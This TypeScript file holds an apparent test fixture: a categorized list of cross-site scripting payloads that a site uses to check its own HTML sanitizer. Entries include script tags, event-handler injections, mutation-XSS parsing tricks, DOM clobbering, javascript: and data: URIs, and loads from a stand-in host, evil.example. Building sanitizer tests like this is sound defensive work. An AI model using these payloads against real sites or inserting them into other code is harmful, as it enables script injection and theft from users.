/** A payload that runs calls it, and tests listen for the call. */
const RUN = 'alert(1)';
/** An address that no page may request. */
const ELSEWHERE = 'https://evil.example/x';

/** Entities, tabs and line ends within a scheme, which browsers remove. */
const DISGUISED = [
  `javascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${RUN}`,
  `jav\tascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `\\\\evil.example\\x`,
];
const EVENTS = ['error', 'focus', 'toggle', 'begin', 'animationstart', 'contentvisibilityautostatechange'];
const TAGS = ['p', 'img src=x', 'a href=/faq', 'svg', 'details open', 'input autofocus', 'iframe src=/faq'];
/** Names that scripts of the page look up. */
const NAMES = ['body', 'location', 'attributes', '__proto__', 'dataLayer'];

/** Attacks on this site’s cleaning of HTML, by kind, beside those of published collections. */
export const PAYLOADS_OF_OURS: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    `<script>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script src=${ELSEWHERE}></script>`,
    `"]);${RUN};([1,"`,
    `</textarea></title></script><script>${RUN}</script>`,
    `</div></div></section></main></body></html><script>${RUN}</script>`,
    `\u2028<script>${RUN}</script>\u2029`,
  ],
  'event handlers': TAGS.flatMap((tag) => EVENTS.map((name) => `<${tag} on${name}=${RUN}>x`)),
  'disguised handlers': [
    `<img src=x onerror\n=\n${RUN}>`,
    `<img src=x/onerror=${RUN}>`,
    `<img alt="\`><img src=x onerror=${RUN}>" src=x>`,
    `<img src=x on\u0000error=${RUN}>`,
    `<a href="/faq" title="><img src=x onerror=${RUN}>">x</a>`,
    `<img src="x" alt="&quot; onerror=&quot;${RUN}">`,
  ],
  addresses: [
    ...DISGUISED.flatMap((address) => [
      `<a href="${address}">x</a>`,
      `<img src="${address}">`,
      `<button formaction="${address}">x</button>`,
      `<object data="${address}"></object>`,
      `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
    ]),
    `<a href="/faq" ping="${ELSEWHERE}">x</a>`,
    `<base href="https://evil.example/">`,
    `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
    `<img srcset="${ELSEWHERE} 1x" src=/x>`,
    `<video poster=${ELSEWHERE}></video>`,
  ],
  'SVG and MathML': [
    `<svg><set attributeName=href to=javascript:${RUN}><a><text>x</text></a></svg>`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  ],
  'what is parsed differently the second time': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
    `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
    `<!---><img src=x onerror=${RUN}>-->`,
    `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
    `<img src=x onerror=${RUN}`,
    `<p title="`,
  ],
  styles: [
    `<p style="background:url(${ELSEWHERE})">x</p>`,
    `<style>@import "${ELSEWHERE}";</style>`,
    `<link rel=stylesheet href=${ELSEWHERE}>`,
    `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  ],
  'frames and forms': [
    `<iframe srcdoc="&lt;img src=x onerror=top.${RUN}&gt;"></iframe>`,
    `<embed src=${ELSEWHERE}>`,
    `<form action=${ELSEWHERE}><input name=a autofocus onfocus=${RUN}></form>`,
  ],
  clobbering: NAMES.flatMap((name) => [
    `<img name=${name} src=/x>`,
    `<form id=${name}><input name=${name}></form>`,
    `<a id=${name} href="javascript:${RUN}">x</a><a id=${name} name=${name} href="data:,x">x</a>`,
  ]),
  'templates and lookalikes': [
    `{{constructor.constructor('${RUN}')()}}`,
    `<p v-html="${RUN}" x-init="${RUN}" hx-on:load="${RUN}">x</p>`,
    `＜script＞${RUN}＜/script＞`,
    `\u202e>)1(trela=rorreno x=crs gmi<`,
    `<İmg src=x onerror=${RUN}>`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  ],
};
